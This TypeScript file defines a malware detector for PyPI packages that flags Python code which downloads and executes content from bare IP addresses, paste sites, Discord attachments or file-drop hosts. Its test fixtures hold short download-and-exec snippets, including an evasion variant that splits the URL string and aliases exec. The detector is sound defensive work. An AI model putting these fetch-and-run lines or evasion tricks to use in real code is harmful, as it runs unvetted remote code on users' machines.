import { flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, sight } from "./_sight.ts";

const WORDS = ["http://", "https://", "urlopen", "requests", "curl", "wget"] as const;
/** A public address without a name, or a place where anybody can leave a file. */
const UNOWNED =
  /https?:\/\/(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0\.0\.0\.0|169\.254\.)(?:\d{1,3}\.){3}\d{1,3}(?![\d.])|(?:cdn|media)\.discordapp\.(?:com|net)\/attachments|pastebin\.com\/raw|rentry\.(?:co|org)\/|transfer\.sh\/|(?:file|anonfile|gofile|catbox|0x0|bashupload)s?\.(?:io|com|moe|st)\//i;

export const runsFromRawAddress: Detector = {
  id: "runs-from-raw-address",
  title: "What is run comes from an address without an owner",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 3.2,
  class: "threat",
  group: "unowned-program",
  why: `What is fetched and then executed or started comes from a bare IP address, a paste or a chat attachment: nobody stands behind it, and
it can be another program tomorrow. Projects that download their own parts do so from their own site or release page.

In a company's internal package the address may be one of its own machines; addresses of private networks pass.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (file.kind !== "python") continue;
      const flow = flowsBetween(file, ["http"], ["start", "run-code"])[0];
      if (flow === undefined) continue;
      const address = UNOWNED.exec(flow.source.text) ?? UNOWNED.exec(file.text);
      if (address === null) continue;
      const share = UNOWNED.test(flow.source.text) ? 1 : 0.85;
      yield sight(file, flow.sink.offset, `${flow.sink.what} runs what comes from ${address[0]}`, {
        phase: flow.sink.phase,
        share,
      });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import requests\ndef go():\n    exec(requests.get('http:/' '/203.0.113.5/a').text)\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "import requests\ndef go():\n    exec(requests.get('http://example.invalid/a').text)\n" },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\ndef go():\n    print(requests.get('http:/' '/203.0.113.5/a').text)\n    exec('x')\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "from urllib.request import urlopen as o\ndef go():\n    f = exec\n    f(o('http:' '//203.0.113.5:81/a').read())\n",
        },
      },
    ],
  },
};
